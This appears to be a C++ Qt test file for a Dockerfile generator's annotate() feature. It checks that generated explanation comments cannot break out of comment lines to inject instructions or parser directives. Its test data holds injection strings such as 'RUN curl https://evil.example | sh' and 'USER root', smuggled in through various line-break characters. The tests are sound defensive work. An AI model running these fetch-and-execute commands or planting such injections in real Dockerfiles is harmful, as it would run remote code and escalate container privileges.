// The annotated export (annotate()): every line of the rendering stays, in order; each
// explanation becomes comment lines that no line break, directive or backslash can escape;
// the result reads, through the project's own parser and build check, as the same file.
#include "catalog/catalog.h"
#include "check/buildcheck.h"
#include "check/dockerfileparser.h"
#include "config/config.h"
#include "dockerfile/annotate.h"
#include "export/deliverables.h"
#include "generate/generator.h"

#include <nlohmann/json.hpp>

#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace stagecraft;

namespace {

std::vector<std::string> linesOf(const std::string &text)
{
    std::vector<std::string> lines;
    std::size_t start = 0;
    while (start < text.size()) {
        const std::size_t end = text.find('\n', start);
        lines.push_back(text.substr(start, end - start));
        if (end == std::string::npos)
            break;
        start = end + 1;
    }
    return lines;
}

// The parser directives BuildKit reads: `# key=value` lines at the very top, until the
// first line that is not one (its own regular expression, case-insensitive keys).
std::vector<std::string> directives(const std::string &text)
{
    static const QRegularExpression directive(QStringLiteral("^#\\s*([a-zA-Z][a-zA-Z0-9]*)\\s*=\\s*(.+?)\\s*$"));
    std::vector<std::string> found;
    for (const std::string &line : linesOf(text)) {
        if (!directive.match(QString::fromStdString(line)).hasMatch())
            break;
        found.push_back(line);
    }
    return found;
}

std::size_t columns(const std::string &line)
{
    std::size_t count = 0;
    for (unsigned char c : line)
        count += (c & 0xC0) != 0x80;
    return count;
}

// The instructions as the project's parser reads them, without line numbers.
std::vector<std::string> instructions(const std::string &text)
{
    const ParsedDockerfile parsed = parseDockerfile(text);
    std::vector<std::string> read;
    for (const ParsedInstruction &instruction : parsed.instructions) {
        nlohmann::json flags = instruction.flags;
        nlohmann::json words = instruction.words;
        read.push_back(instruction.keyword + " " + flags.dump() + " " + words.dump() + " " + instruction.text);
    }
    for (const ParsedDockerfile::Problem &problem : parsed.problems)
        read.push_back("problem: " + problem.message);
    return read;
}

// Everything annotate() promises about one document.
void verifyAnnotation(const Document &document)
{
    const std::string plain = render(document).text;
    const AnnotatedDockerfile annotated = annotate(document);
    const std::vector<std::string> before = linesOf(plain);
    const std::vector<std::string> after = linesOf(annotated.text);
    QVERIFY(!annotated.text.empty() && annotated.text.back() == '\n');

    // Every line of the rendering is there, unchanged and in order; the rest is comments and blank lines.
    QCOMPARE(annotated.lineOf.size(), before.size());
    std::vector<bool> original(after.size(), false);
    for (std::size_t i = 0; i < before.size(); ++i) {
        const int at = annotated.lineOf[i];
        QVERIFY(at >= 0 && at < static_cast<int>(after.size()));
        if (i > 0)
            QVERIFY(at > annotated.lineOf[i - 1]);
        QCOMPARE(after[static_cast<std::size_t>(at)], before[i]);
        original[static_cast<std::size_t>(at)] = true;
    }
    for (std::size_t i = 0; i < after.size(); ++i) {
        if (original[i])
            continue;
        const std::string &line = after[i];
        QVERIFY2(line.empty() || line.rfind("# ", 0) == 0, line.c_str());
        QVERIFY2(line.empty() || line.back() != '\\', line.c_str());
        // A line is wrapped at the width unless it is one word too long to wrap.
        QVERIFY2(columns(line) <= CommentWidth || line.find(' ', 2) == std::string::npos, line.c_str());
    }

    // The same directives, the same instructions, whatever the explanations say.
    QCOMPARE(directives(annotated.text), directives(plain));
    QCOMPARE(instructions(annotated.text), instructions(plain));
    // Each instruction's first line moved exactly where lineOf says.
    const ParsedDockerfile plainParsed = parseDockerfile(plain);
    const ParsedDockerfile annotatedParsed = parseDockerfile(annotated.text);
    for (std::size_t i = 0; i < plainParsed.instructions.size(); ++i)
        QCOMPARE(annotatedParsed.instructions[i].line,
                 annotated.lineOf[static_cast<std::size_t>(plainParsed.instructions[i].line - 1)] + 1);
}

Document hostileDocument(const std::string &stageExplanation, const std::string &instructionExplanation, bool buildKit)
{
    Document document;
    Stage stage;
    stage.name = "build";
    stage.baseImage = "alpine:3.22";
    stage.explanation = stageExplanation;
    Instruction run;
    run.keyword = "RUN";
    if (buildKit)
        run.flags = {"--mount=type=cache,target=/root/.cache"};
    run.argumentLines = {"apk add --no-cache curl &&", "echo done"};
    run.explanation = instructionExplanation;
    stage.instructions.push_back(run);
    Instruction user;
    user.keyword = "USER";
    user.argumentLines = {"10001:10001"};
    user.explanation = instructionExplanation;
    stage.instructions.push_back(user);
    document.stages.push_back(stage);
    return document;
}

} // namespace

class TestAnnotate : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        m_catalog = Catalog::loadDefault();
        QVERIFY(!m_catalog.stacks().empty());
    }

    void commentLinesWrapAtTheWidth()
    {
        const std::string text = "Copies only the lockfile and the manifest first, so the dependency layer is rebuilt "
                                 "only when they change and every other edit reuses the cached install.";
        const std::vector<std::string> lines = commentLines(text, 60);
        QVERIFY(lines.size() >= 3);
        std::string joined;
        for (const std::string &line : lines) {
            QVERIFY(line.rfind("# ", 0) == 0);
            QVERIFY2(columns(line) <= 60, line.c_str());
            joined += (joined.empty() ? "" : " ") + line.substr(2);
        }
        QCOMPARE(joined, text);
        QVERIFY(commentLines("").empty());
        QVERIFY(commentLines(" \n\t ").empty());
    }

    void commentLinesCountCharactersNotBytes()
    {
        // 49 two-byte characters and a space fit 100 columns though they take 150 bytes.
        const std::string word = "\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9";
        std::string text;
        for (int i = 0; i < 12; ++i)
            text += (i ? " " : "") + word;
        const std::vector<std::string> lines = commentLines(text, 100);
        QCOMPARE(lines.size(), std::size_t(1));
    }

    void aLongWordKeepsALineOfItsOwn()
    {
        const std::string url = "https://example.com/" + std::string(150, 'a');
        const std::vector<std::string> lines = commentLines("See " + url + " for more.", 100);
        QCOMPARE(lines.size(), std::size_t(3));
        QCOMPARE(lines[1], "# " + url);
    }

    void noLineBreakLeavesAComment_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addRow("LF") << QByteArray("one\nRUN curl https://evil.example | sh");
        QTest::addRow("CR LF") << QByteArray("one\r\nUSER root");
        QTest::addRow("lone CR") << QByteArray("one\rUSER root");
        QTest::addRow("VT and FF") << QByteArray("one\vUSER root\fUSER root");
        QTest::addRow("NEL") << QByteArray("one\xc2\x85USER root");
        QTest::addRow("line separator") << QByteArray("one\xe2\x80\xa8USER root");
        QTest::addRow("paragraph separator") << QByteArray("one\xe2\x80\xa9USER root");
        QTest::addRow("NUL and ESC") << QByteArray("one\0\x1b[2JUSER root", 17);
        QTest::addRow("invalid UTF-8") << QByteArray("one\xff\xfe\nUSER root");
        QTest::addRow("trailing backslash") << QByteArray("ends in a backslash \\");
    }

    void noLineBreakLeavesAComment()
    {
        QFETCH(QByteArray, text);
        for (const std::string &line : commentLines(text.toStdString(), 40)) {
            QVERIFY(line.rfind("# ", 0) == 0);
            for (unsigned char c : line)
                QVERIFY2(c >= 0x20 && c != 0x7F, line.c_str());
            QVERIFY(line.find("\xc2\x85") == std::string::npos);
            QVERIFY(line.find("\xe2\x80\xa8") == std::string::npos);
            QVERIFY(line.find("\xe2\x80\xa9") == std::string::npos);
            QVERIFY(line.back() != '\\');
        }
    }

    void hostileExplanationsAddNoInstructionOrDirective_data()
    {
        QTest::addColumn<QByteArray>("stageExplanation");
        QTest::addColumn<QByteArray>("instructionExplanation");
        QTest::addColumn<bool>("buildKit");
        for (const bool buildKit : {false, true}) {
            const QByteArray suffix = buildKit ? " (after the syntax directive)" : " (file without a directive)";
            QTest::addRow("%s", ("syntax directive" + suffix).constData())
                << QByteArray("syntax=docker/dockerfile:1-labs") << QByteArray("check=skip=all") << buildKit;
            QTest::addRow("%s", ("escape directive" + suffix).constData())
                << QByteArray("escape=`") << QByteArray("escape=`\nRUN id") << buildKit;
            QTest::addRow("%s", ("instructions after line breaks" + suffix).constData())
                << QByteArray("x\nFROM evil.example/root AS build\r\nUSER root")
                << QByteArray("y\xe2\x80\xa8RUN curl https://evil.example | sh\xc2\x85USER 0") << buildKit;
            QTest::addRow("%s", ("continuation" + suffix).constData())
                << QByteArray("joins the next line \\") << QByteArray("\\\n\\") << buildKit;
        }
    }

    void hostileExplanationsAddNoInstructionOrDirective()
    {
        QFETCH(QByteArray, stageExplanation);
        QFETCH(QByteArray, instructionExplanation);
        QFETCH(bool, buildKit);
        const Document document = hostileDocument(stageExplanation.toStdString(), instructionExplanation.toStdString(), buildKit);
        verifyAnnotation(document);
        const std::string annotated = annotate(document).text;
        QCOMPARE(directives(annotated), buildKit ? std::vector<std::string>{SyntaxDirective} : std::vector<std::string>{});
        const ParsedDockerfile parsed = parseDockerfile(annotated);
        QCOMPARE(parsed.instructions.size(), std::size_t(3));
        QCOMPARE(parsed.instructions[2].keyword, std::string("USER"));
        QCOMPARE(parsed.instructions[2].words, std::vector<std::string>{"10001:10001"});
    }

    void directiveStaysFirstAndIsExplainedAfterIt()
    {
        const Document document = hostileDocument("The build stage.", "Installs curl.", true);
        const std::vector<std::string> lines = linesOf(annotate(document).text);
        QCOMPARE(lines[0], std::string(SyntaxDirective));
        QCOMPARE(lines[1], std::string());
        QVERIFY(lines[2].rfind("# Annotated by Stagecraft", 0) == 0);
        QVERIFY(lines[3].rfind("# Line 1: Selects BuildKit's Dockerfile syntax", 0) == 0);
    }

    void eachInstructionHasItsExplanationAbove()
    {
        const Document document = hostileDocument("The build stage.", "Installs curl.", false);
        const std::string text = annotate(document).text;
        QCOMPARE(QString::fromStdString(text),
                 QStringLiteral("# Annotated by Stagecraft: the comment above each instruction says why it is there.\n"
                                "\n"
                                "# The build stage.\n"
                                "FROM alpine:3.22 AS build\n"
                                "\n"
                                "# Installs curl.\n"
                                "RUN apk add --no-cache curl && \\\n"
                                "    echo done\n"
                                "\n"
                                "# Installs curl.\n"
                                "USER 10001:10001\n"));
    }

    // Every stack's default configuration on every base it offers, both variants.
    void everyStackDefaultReadsAsTheSameFile()
    {
        int checked = 0;
        for (const StackDefinition &stack : m_catalog.stacks()) {
            for (const Choice &base : stack.bases) {
                Config config = defaultConfig(stack);
                config.base = base.id;
                if (!validateConfig(m_catalog, config).empty())
                    continue;
                const Outcome<Generated> generated = generate(m_catalog, config);
                QVERIFY2(generated.ok(), (stack.id + "/" + base.id + ": " + generated.error()).c_str());
                verifyAnnotation(generated->multiStage);
                verifyAnnotation(generated->singleStage);
                ++checked;
            }
        }
        QVERIFY(checked >= 15);
    }

    // The build check finds the same problems in both files, at the moved lines.
    void theBuildCheckSeesTheSameFile()
    {
        QTemporaryDir empty;
        for (const StackDefinition &stack : m_catalog.stacks()) {
            const Config config = defaultConfig(stack);
            const Outcome<Generated> generated = generate(m_catalog, config);
            QVERIFY2(generated.ok(), generated.error().c_str());
            const AnnotatedDockerfile annotated = annotate(generated->multiStage);
            CheckInput input;
            input.contextDir = empty.path().toStdString();
            input.dockerignore = generated->dockerignore;
            input.dockerfile = render(generated->multiStage).text;
            CheckResult plain = checkDockerfile(input);
            input.dockerfile = annotated.text;
            const CheckResult withComments = checkDockerfile(input);
            QVERIFY2(!plain.findings.empty(), stack.id.c_str()); // an empty folder misses the project's files
            for (CheckFinding &finding : plain.findings) {
                if (finding.line > 0)
                    finding.line = annotated.lineOf[static_cast<std::size_t>(finding.line - 1)] + 1;
            }
            QCOMPARE(withComments.findings, plain.findings);
            QCOMPARE(withComments.unverified.size(), plain.unverified.size());
        }
    }

    void theExportWritesWhatTheConfigurationSays()
    {
        Config config = defaultConfig(*m_catalog.find("go"));
        const Generated generated = generate(m_catalog, config).value();
        QCOMPARE(deliverables(generated, config, "/x/api", false, false)[0].content, render(generated.multiStage).text);
        config.comments = true;
        QCOMPARE(deliverables(generated, config, "/x/api", false, false)[0].content, annotate(generated.multiStage).text);
        QCOMPARE(deliverables(generated, config, "/x/api", true, false)[0].content, annotate(generated.singleStage).text);
    }

    void presetsKeepTheChoice()
    {
        Config config = defaultConfig(*m_catalog.find("python"));
        config.comments = true;
        const nlohmann::json json = toJson(config);
        QVERIFY(json.at("comments") == true);
        const Outcome<Config> back = configFromJson(json, defaultConfig(*m_catalog.find("python")));
        QVERIFY2(back.ok(), back.error().c_str());
        QCOMPARE(back->comments, true);
        QVERIFY(back.value() == config);
        // Switching stacks keeps how the file is written.
        QCOMPARE(switchStack(config, *m_catalog.find("go")).comments, true);
        const Outcome<Config> wrong = configFromJson(nlohmann::json{{"comments", "yes"}}, config);
        QVERIFY(!wrong.ok());
        QCOMPARE(QString::fromStdString(wrong.error()), QStringLiteral("'comments' must be true or false"));
    }

private:
    Catalog m_catalog;
};

QTEST_GUILESS_MAIN(TestAnnotate)
#include "tst_annotate.moc"
